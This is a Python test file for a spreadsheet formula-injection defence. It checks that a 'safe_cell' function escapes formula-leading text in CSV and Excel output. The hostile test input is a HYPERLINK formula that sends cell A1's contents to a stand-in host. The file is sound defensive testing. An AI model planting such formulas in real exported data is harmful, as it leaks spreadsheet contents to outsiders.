"""Spreadsheet formula injection (OWASP): text starting with each character a spreadsheet runs
is written as text, in CSV and in an Excel workbook reopened with openpyxl; numbers, even
negative ones, stay numbers."""

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from schemeops.cells import FORMULA_START, safe_cell


@pytest.mark.parametrize("lead", FORMULA_START)
def test_each_leading_character_is_neutralised(lead: str):
    hostile = f'{lead}HYPERLINK("http://x.test/?"&A1,"click")'
    cell = safe_cell(hostile)
    assert cell == "'" + hostile
    buf = io.StringIO()
    csv.writer(buf).writerow([cell])
    assert next(csv.reader(io.StringIO(buf.getvalue())))[0].startswith("'")
    wb = Workbook()
    wb.active.append([cell])
    out = io.BytesIO()
    wb.save(out)
    got = load_workbook(io.BytesIO(out.getvalue())).active["A1"]
    # (XML keeps a carriage return as a line feed, so compare the start)
    assert got.data_type == "s" and got.value.startswith("'" + lead.replace("\r", "\n"))


@pytest.mark.parametrize("text", ["-2400.00", "+5", "12", "D00001", "", "Shop = good"])
def test_plain_text_and_numbers_are_left_alone(text: str):
    assert safe_cell(text) == text


def test_none_is_empty():
    assert safe_cell(None) == ""
